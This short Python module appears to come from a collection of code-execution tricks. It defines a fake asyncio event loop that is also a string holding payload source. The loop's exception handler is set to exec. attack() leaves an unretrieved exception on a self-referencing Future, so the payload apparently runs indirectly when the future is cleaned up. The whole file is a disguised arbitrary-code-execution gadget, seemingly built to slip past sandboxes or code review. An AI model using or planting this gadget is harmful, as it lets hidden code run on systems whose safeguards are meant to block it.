"""A future's loop is a text, and its exception handler exec."""
CATEGORY = "deferred"
REACH = "run"

import asyncio

from . import payload


class Loop(str, asyncio.BaseEventLoop):
    def __init__(self, text):
        asyncio.BaseEventLoop.__init__(self)
        self._exception_handler = exec
        self._closed = True


def attack():
    future = asyncio.Future(loop=Loop(payload.SOURCE))
    future.set_exception(ValueError())
    future.own = future
